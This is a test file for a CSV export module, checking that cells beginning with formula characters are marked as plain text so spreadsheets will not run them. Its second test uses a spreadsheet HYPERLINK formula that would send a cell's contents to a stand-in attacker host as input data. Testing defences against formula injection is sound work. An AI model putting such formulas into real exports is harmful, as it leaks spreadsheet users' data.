import { describe, expect, it } from 'vitest';
import { csvCell, reportCsv } from '../../../functions/core/metrics/csv.js';

describe('a CSV cell', () => {
  it.each([
    ['=HYPERLINK("http://x.test","click")'],
    ['+1+2'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('shows %j as text a spreadsheet will not run', (value) => {
    // Act / Assert
    expect(csvCell(value)).toBe(`'${value}`);
  });

  it.each([['site-7'], ['<11'], ['2026-11-20'], [''], [' =not first']])('leaves %j as it is', (value) => {
    // Act / Assert
    expect(csvCell(value)).toBe(value);
  });

  it('leaves numbers as numbers, negative ones included', () => {
    // Act / Assert
    expect([csvCell(-0.25), csvCell(3), csvCell(null)]).toEqual([-0.25, 3, null]);
  });
});

describe('a report as CSV', () => {
  it('neutralizes a site id that is a formula wherever it appears, and keeps figures numeric', () => {
    // Arrange
    const site = '=HYPERLINK("http://evil.test/?leak="&A1,"open")';
    const report = { asOf: '2026-11-20', reduction: -0.5, bySite: [] };
    const breakdowns = { bySite: { keyField: 'siteId', rows: [{ siteId: site, useReports: 3 }] } };

    // Act
    const text = reportCsv(report, breakdowns);

    // Assert: the cell is quoted (it holds quotes and a comma) and starts with the text mark
    expect(text).toContain(`bySite,"'=HYPERLINK(""http://evil.test/?leak=""&A1,""open"")",useReports,3`);
    expect(text).toContain('total,,reduction,-0.5');
    // No field, quoted or not, starts with a formula character.
    expect(text).not.toMatch(/(^|,)"?[=+@\t\r]/m);
  });
});
